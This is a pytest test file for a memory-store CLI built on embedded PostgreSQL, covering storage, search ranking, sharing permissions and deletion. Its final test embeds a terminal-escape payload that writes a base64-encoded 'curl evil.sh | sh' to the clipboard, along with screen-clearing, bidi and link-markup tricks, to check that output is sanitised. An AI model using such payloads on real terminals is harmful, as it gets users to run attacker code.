"""remember / search / list / show / forget / pin / share against the real embedded PostgreSQL."""

from __future__ import annotations

import io
import json
import sys

import pytest

MEMORIES = {
    "py": ("I prefer Python with type hints for backend services.", "preferences"),
    "pg": (
        "We chose PostgreSQL with pgvector over a separate vector database to keep one store.",
        "decisions",
    ),
    "test": ("Run the test suite with make test; it creates the virtualenv first.", "patterns"),
    "ci": ("Fixed the flaky CI job by pinning the database wheel version.", "learnings"),
    "redis": ("The API returns 500 when REDIS_URL is unset; the cache must stay optional.", "context"),
    "tabs": ("Use four spaces for indentation, never tabs, in every repository.", "preferences"),
}

PARAPHRASES = [
    ("which programming language do I like for server code?", "py"),
    ("why did we pick postgres for storing embeddings?", "pg"),
    ("how do I run the tests?", "test"),
    ("what made the continuous integration pipeline unstable?", "ci"),
    ("server error when the cache environment variable is missing", "redis"),
    ("indentation style", "tabs"),
]


def _remember_all(cli) -> dict[str, str]:
    ids = {}
    for key, (text, category) in MEMORIES.items():
        result = cli("remember", text, "--category", category, "--json")
        assert result.code == 0, result.stderr
        payload = result.json()
        assert payload["created"] is True
        ids[key] = payload["id"]
    return ids


@pytest.mark.real_model  # judges ranking
@pytest.mark.parametrize("mode", ["hybrid", "vector"])
def test_paraphrased_queries_rank_the_right_memory_first(cli, mode):
    ids = _remember_all(cli)
    for query, expected in PARAPHRASES:
        result = cli("search", query, "--json", "--mode", mode, "--all")  # the ranking, weak or not
        assert result.code == 0, result.stderr
        top = result.json()["results"][0]
        assert top["id"] == ids[expected], f"{query!r} → {top['content']!r}"
        assert set(top) >= {"id", "score", "category", "content"}


def test_remember_twice_returns_the_existing_id(cli):
    first = cli("remember", "Deploys go through the staging branch first.", "--json").json()
    again = cli("remember", "  Deploys go through   the staging branch first. ", "--json").json()
    assert first == {"id": first["id"], "created": True}
    assert again == {"id": first["id"], "created": False}
    listed = cli("list", "--json").json()["memories"]
    assert [m["id"] for m in listed] == [first["id"]]


def test_plain_output_prints_the_id(cli):
    result = cli("remember", "Plain output prints the id.")
    assert result.code == 0
    assert len(result.stdout.strip()) == 36


def test_stdin_text_and_metadata_are_stored(cli):
    result = cli(
        "remember",
        "-",
        "--category",
        "decisions",
        "--tags",
        "db, infra,db",
        "--title",
        "Store",
        "--project",
        "acme/web",
        "--json",
        stdin=b"We keep one PostgreSQL for everything.\n",
    )
    memory_id = result.json()["id"]
    shown = cli("show", memory_id, "--json").json()
    assert shown["content"] == "We keep one PostgreSQL for everything."
    assert shown["category"] == "decisions"
    assert shown["tags"] == ["db", "infra"]
    assert shown["title"] == "Store"
    assert shown["source_ref"] == "project:acme/web"
    assert shown["scope"] == "personal"
    assert shown["priority"] == 1.0 and shown["access_count"] == 0 and shown["archived"] is False


def test_default_project_is_the_current_one(cli, env):
    memory_id = cli("remember", "Project memories carry the project.", "--json").json()["id"]
    assert cli("show", memory_id, "--json").json()["source_ref"] == env["CEMS_PROJECT"]
    other = cli("remember", "A memory without a project.", "--no-project", "--json").json()["id"]
    assert cli("show", other, "--json").json()["source_ref"] is None


def test_search_tracks_access_and_priority(cli):
    memory_id = cli("remember", "Access tracking raises priority over time.", "--json").json()["id"]
    for _ in range(3):
        assert cli("search", "access tracking priority", "--json").json()["results"][0]["id"] == memory_id
    shown = cli("show", memory_id, "--json").json()
    assert shown["access_count"] == 3
    assert shown["priority"] == pytest.approx(1.15)
    assert shown["last_accessed"] is not None


def test_forget_archives_and_purge_deletes(cli):
    ids = _remember_all(cli)
    assert cli("forget", ids["pg"], "--json").json() == {
        "id": ids["pg"],
        "forgotten": [ids["pg"]],
        "archived": True,
        "purged": False,
    }
    results = cli("search", "why did we pick postgres?", "--json", "--limit", "10").json()["results"]
    assert ids["pg"] not in [r["id"] for r in results]
    assert cli("show", ids["pg"], "--json").json()["archived"] is True
    # Remembering the same text again creates a new live memory: the archived one does not block it.
    again = cli("remember", MEMORIES["pg"][0], "--json").json()
    assert again["created"] is True and again["id"] != ids["pg"]
    assert cli("forget", ids["py"][:8], "--purge").code == 0
    missing = cli("show", ids["py"])
    assert missing.code == 2 and "no memory with id" in missing.stderr


def test_pin_sets_reason_and_category(cli):
    memory_id = cli("remember", "Always run migrations in a transaction.", "--json").json()["id"]
    result = cli("pin", memory_id, "--reason", "team rule", "--pin-category", "convention", "--json")
    assert result.json() == {
        "id": memory_id,
        "pinned": True,
        "reason": "team rule",
        "pin_category": "convention",
    }
    shown = cli("show", memory_id, "--json").json()
    assert (shown["pinned"], shown["pin_reason"], shown["pin_category"]) == (True, "team rule", "convention")
    listed = cli("list", "--json").json()["memories"]
    assert listed[0]["id"] == memory_id
    assert cli("pin", memory_id, "--unpin").code == 0
    assert cli("show", memory_id, "--json").json()["pinned"] is False


def test_personal_memories_are_private_and_shared_ones_reach_the_team(cli, env):
    alice = {"CEMS_USER": env["CEMS_USER"], "CEMS_TEAM": "platform"}
    bob = {"CEMS_USER": env["CEMS_USER"] + "-bob", "CEMS_TEAM": "platform"}
    mallory = {"CEMS_USER": env["CEMS_USER"] + "-mallory", "CEMS_TEAM": "other"}
    private = cli("remember", "My private note about the payroll service.", "--json", extra_env=alice).json()[
        "id"
    ]
    shared = cli("share", private, "--json", extra_env=alice).json()
    assert shared["created"] is True and shared["team"] == "platform" and shared["id"] != private
    direct = cli("share", "The platform team deploys on Tuesdays.", "--json", extra_env=alice).json()

    bob_results = cli("search", "payroll service note", "--json", "--limit", "10", extra_env=bob).json()[
        "results"
    ]
    bob_ids = {r["id"] for r in bob_results}
    assert shared["id"] in bob_ids and private not in bob_ids
    assert cli("show", private, extra_env=bob).code == 2
    assert cli("show", direct["id"], "--json", extra_env=bob).json()["scope"] == "shared"
    personal_only = cli("search", "payroll", "--scope", "personal", "--json", extra_env=bob).json()["results"]
    assert personal_only == []

    mallory_ids = {
        r["id"] for r in cli("search", "payroll service note", "--json", extra_env=mallory).json()["results"]
    }
    assert not mallory_ids & {private, shared["id"], direct["id"]}
    # Only the owner may forget a memory, even a shared one.
    assert cli("forget", shared["id"], extra_env=bob).code == 2


def test_sharing_an_id_you_cannot_see_fails_and_stores_nothing(cli, env):
    team = "team-" + env["CEMS_USER"]  # this test's own: other tests share with "platform"
    alice = {"CEMS_USER": env["CEMS_USER"], "CEMS_TEAM": team}
    bob = {"CEMS_USER": env["CEMS_USER"] + "-bob", "CEMS_TEAM": team}
    private = cli("remember", "Alice's private note.", "--json", extra_env=alice).json()["id"]
    for given in (private, private[:8], "0000dead-beef", " 3f2a91c0 "):
        result = cli("share", given, extra_env=bob)
        assert result.code == 2 and result.stdout == "", given
        line = result.stderr.strip()
        assert "\n" not in line and "that you can see: nothing shared" in line, line
    assert cli("list", "--scope", "both", "--json", extra_env=bob).json()["memories"] == []
    # Text that is not an id is still shared as new text.
    assert cli("share", "deadbeef is our test fixture's magic number", extra_env=bob).code == 0


def test_category_and_project_filters(cli):
    _remember_all(cli)
    only_prefs = cli(
        "search", "python postgres tests", "--category", "preferences", "--json", "--limit", "10"
    )
    assert {r["category"] for r in only_prefs.json()["results"]} == {"preferences"}
    web = cli("remember", "The web app uses Vite.", "--project", "acme/web", "--json").json()["id"]
    scoped = cli("search", "which bundler does the web app use", "--project", "acme/web", "--json", "--all")
    scoped = scoped.json()["results"]
    assert [r["id"] for r in scoped] == [web]


def test_list_and_status_json(cli):
    _remember_all(cli)
    listed = cli("list", "--category", "preferences", "--json").json()["memories"]
    assert {m["category"] for m in listed} == {"preferences"} and len(listed) == 2
    status = cli("status", "--json").json()
    assert status["total"] == len(MEMORIES)
    # The suite's embedder (tests/conftest.py); by default `local`, all-MiniLM-L6-v2, 384 dims.
    assert status["embedding"] == {"backend": "hashing", "model": "hashing", "dim": 384}
    assert status["database"]["embedded"] is True and status["database"]["running"] is True
    by_category = {c["category"]: c["count"] for c in status["counts"]}
    assert by_category["preferences"] == 2
    # What the store asks of memory: the page cache and what a search reads (the shared test store's size).
    cache = status["memory"]["page_cache"]
    assert cache["shared_buffers_bytes"] >= 128 * 1024 * 1024
    assert cache["tables_bytes"] > 0 and cache["hnsw_bytes"] > 0 and cache["gin_bytes"] > 0
    assert status["memory"]["model_bytes"] is None  # the hashing embedder has no weights
    shown = cli("status").stdout
    assert "page cache" in " ".join(shown.split()) and "HNSW" in shown


def test_long_memories_are_chunked_and_found_by_a_late_passage(cli):
    filler = " ".join(
        f"Paragraph {i} talks about routine maintenance of the office plants." for i in range(200)
    )
    text = filler + " The production database password rotation happens every ninety days."
    memory_id = cli("remember", text, "--json").json()["id"]
    from cems_cli.config import get_settings
    from cems_cli.store.db import connect

    conn = connect(get_settings())
    chunks = conn.execute(
        "SELECT count(*) FROM memory_chunks WHERE document_id = %s", (memory_id,)
    ).fetchone()[0]
    conn.close()
    assert chunks > 1
    top = cli("search", "how often is the database password rotated", "--json").json()["results"][0]
    assert top["id"] == memory_id
    assert "ninety days" in top["snippet"]


def test_context_is_searchable_but_not_content(cli):
    answer = cli(
        "remember",
        "Five years already, time flies!",
        "--context",
        "Melanie: How long have you and your husband been married?",
        "--json",
    ).json()
    other = cli(
        "remember", "Five years already, time flies!", "--context", "How old is the dog?", "--json"
    ).json()
    assert answer["created"] and other["created"] and other["id"] != answer["id"]
    shown = cli("show", answer["id"], "--json").json()
    assert shown["content"] == "Five years already, time flies!"
    assert shown["context"] == "Melanie: How long have you and your husband been married?"
    top = cli("search", "how long has she been married?", "--json").json()["results"][0]
    assert top["id"] == answer["id"]
    assert top["content"] == "Five years already, time flies!"


# forget: several ids, filters, confirmation ----------------------------------------------------------------


def _live_ids(cli, extra_env: dict[str, str] | None = None) -> set[str]:
    listed = cli("list", "--json", "--limit", "500", extra_env=extra_env).json()["memories"]
    return {m["id"] for m in listed}


def _one_line_error(result) -> None:
    assert result.stdout == ""
    assert result.stderr.startswith("error: ") and result.stderr.strip().count("\n") == 0, result.stderr


def test_forget_takes_several_ids_in_one_call(cli):
    ids = _remember_all(cli)
    chosen = [ids["py"], ids["pg"][:8], ids["ci"], ids["py"]]  # a prefix, and one id given twice
    result = cli("forget", *chosen, "--json")
    assert result.code == 0, result.stderr
    assert result.json() == {
        "forgotten": [ids["py"], ids["pg"], ids["ci"]],
        "archived": True,
        "purged": False,
    }
    assert _live_ids(cli) == {ids["test"], ids["redis"], ids["tabs"]}
    plain = cli("forget", ids["test"], ids["redis"], "--purge")
    assert plain.code == 0 and plain.stdout.strip() == "Purged 2 memories."
    assert cli("show", ids["test"]).code == 2  # purged: gone for good
    assert cli("show", ids["py"], "--json").json()["archived"] is True  # archived: still there
    # A purge also reaches memories already archived.
    assert cli("forget", ids["py"], "--purge", "--json").json()["purged"] is True
    assert cli("show", ids["py"]).code == 2


def test_forget_with_an_unknown_or_foreign_id_forgets_nothing(cli, env):
    ids = _remember_all(cli)
    unknown = cli("forget", ids["py"], "deadbeef", ids["pg"], "nothex!")
    assert unknown.code == 2
    _one_line_error(unknown)
    assert "no memory with id 'deadbeef', 'nothex!'; nothing was forgotten" in unknown.stderr
    # A memory you can see but do not own (a teammate's shared one): the statement already archived yours
    # when it finds out, and the transaction takes that back. (extra_env stays set for later calls.)
    team = f"team-{env['CEMS_USER']}"  # its own: other tests share with "platform" in the same database
    me = {"CEMS_USER": env["CEMS_USER"], "CEMS_TEAM": team}
    bob = {"CEMS_USER": env["CEMS_USER"] + "-bob", "CEMS_TEAM": team}
    theirs = cli("share", "Bob's note: the build cache lives in S3.", "--json", extra_env=bob).json()["id"]
    foreign = cli("forget", ids["py"], theirs, ids["pg"], extra_env=me)
    assert foreign.code == 2
    _one_line_error(foreign)
    assert "is not yours to forget" in foreign.stderr and "nothing was forgotten" in foreign.stderr
    assert _live_ids(cli) == set(ids.values()) | {theirs}  # theirs: shared with my team, so listed too


def test_forget_needs_ids_or_a_filter_but_not_both(cli):
    memory_id = cli("remember", "Kept because the command was wrong.", "--json").json()["id"]
    for args in ((), ("--json",), (memory_id, "--tag", "x"), ("--tag", "  ")):
        result = cli("forget", *args)
        assert result.code == 2, args
        _one_line_error(result)
    assert _live_ids(cli) == {memory_id}


def _tagged_memories(cli, env) -> dict[str, str]:
    ids = {
        "demo1": cli("remember", "Demo memory about the release train.", "--tags", "demo", "--json"),
        "demo2": cli("remember", "Demo memory about code review.", "--tags", "demo,review", "--json"),
        "review": cli("remember", "Reviews need two approvals.", "--tags", "review", "--json"),
        "plain": cli("remember", "A memory without tags.", "--json"),
    }
    ids = {key: result.json()["id"] for key, result in ids.items()}
    rows = [{"content": "Imported demo memory.", "tags": ["demo"]}, {"content": "Imported plain memory."}]
    stdin = "".join(json.dumps(r) + "\n" for r in rows).encode()
    assert cli("import", "-", "--json", stdin=stdin).json()["imported"] == 2
    by_content = {m["content"]: m["id"] for m in cli("list", "--json").json()["memories"]}
    ids["imported_demo"] = by_content["Imported demo memory."]
    ids["imported_plain"] = by_content["Imported plain memory."]
    return ids


def test_forget_by_tag_or_source_asks_first_and_refuses_without_a_terminal(cli, env):
    ids = _tagged_memories(cli, env)
    # Another user's memories with the same tag and source are never selected. (extra_env stays set.)
    me, other = {"CEMS_USER": env["CEMS_USER"]}, {"CEMS_USER": env["CEMS_USER"] + "-other"}
    theirs = cli("remember", "Someone else's demo memory.", "--tags", "demo", "--json", extra_env=other)
    theirs_id = theirs.json()["id"]

    refused = cli("forget", "--tag", "demo", extra_env=me)  # stdin is not a terminal here
    assert refused.code == 2
    _one_line_error(refused)
    assert "would forget 3 memories tagged 'demo'" in refused.stderr and "--yes" in refused.stderr
    assert len(_live_ids(cli)) == 6

    result = cli("forget", "--tag", "demo", "--yes", "--json")
    assert result.code == 0, result.stderr
    forgotten = result.json()
    assert sorted(forgotten["forgotten"]) == sorted([ids["demo1"], ids["demo2"], ids["imported_demo"]])
    assert forgotten["archived"] is True and forgotten["purged"] is False and "id" not in forgotten
    assert _live_ids(cli) == {ids["review"], ids["plain"], ids["imported_plain"]}
    assert theirs_id in _live_ids(cli, extra_env=other)

    by_source = cli("forget", "--source", "import", "-y", "--purge", "--json", extra_env=me).json()
    assert by_source == {"forgotten": [ids["imported_plain"]], "archived": False, "purged": True}
    both = cli("forget", "--tag", "review", "--source", "manual", "-y")
    assert both.code == 0 and both.stdout.strip() == "Forgot 1 memory."
    assert _live_ids(cli) == {ids["plain"]}

    nothing = cli("forget", "--tag", "no-such-tag")
    assert nothing.code == 0 and nothing.stdout.strip() == "No memories tagged 'no-such-tag'."
    assert cli("forget", "--tag", "no-such-tag", "--json").json() == {
        "forgotten": [],
        "archived": True,
        "purged": False,
    }


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_forget_by_filter_on_a_terminal_confirms(cli, env, monkeypatch):
    ids = _tagged_memories(cli, env)
    monkeypatch.setattr(sys, "stdin", _Terminal("n\n"))
    declined = cli("forget", "--tag", "demo", "--json")
    assert declined.code == 1 and declined.stdout == ""
    assert "Forget 3 memories tagged 'demo'? [y/N]" in declined.stderr
    assert "nothing was forgotten" in declined.stderr
    assert len(_live_ids(cli)) == 6

    monkeypatch.setattr(sys, "stdin", _Terminal("y\n"))
    accepted = cli("forget", "--tag", "demo", "--purge", "--json")
    assert accepted.code == 0, accepted.stderr
    assert "Purge (delete for good) 3 memories tagged 'demo'?" in accepted.stderr
    assert len(accepted.json()["forgotten"]) == 3  # stdout holds the one JSON document, nothing else
    assert ids["demo1"] not in _live_ids(cli)


def test_list_show_search_and_json_print_no_escape_sequence_and_no_markup(cli):
    """A memory that writes the clipboard (OSC 52), makes a link (OSC 8 and rich markup), clears the screen
    (CSI, 7-bit and C1) or reorders text (bidi): printed as text, never run."""
    import json
    import re

    hostile = ("Deploy notes \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b[2J\x9b2J \u202eevil\u202c "
               "[link=https://evil.example]docs[/link] [bold red]urgent[/]")
    memory_id = cli("remember", hostile, "--title", "\x1b]0;pwned\x07", "--json").json()["id"]
    outputs = {args: cli(*args) for args in (("list",), ("show", memory_id), ("search", "deploy notes docs"),
                                             ("list", "--json"), ("show", memory_id, "--json"), ("export",))}
    for args, result in outputs.items():
        assert result.code == 0, (args, result.stderr)
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", result.stdout), args
        if "--json" in args or args == ("export",):
            continue
        # Markup would vanish. Tables fold long cells: compare without spaces and column rules.
        squeezed = re.sub(r"[\s│┃]", "", result.stdout)
        assert "[link=https://evil.example]docs[/link][boldred]urgent[/]" in squeezed, args
    assert "␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=" in outputs[("show", memory_id)].stdout
    # JSON keeps the text exactly, escaped.
    assert json.loads(outputs[("show", memory_id, "--json")].stdout)["content"] == hostile
    assert json.loads(outputs[("export",)].stdout)["content"] == hostile
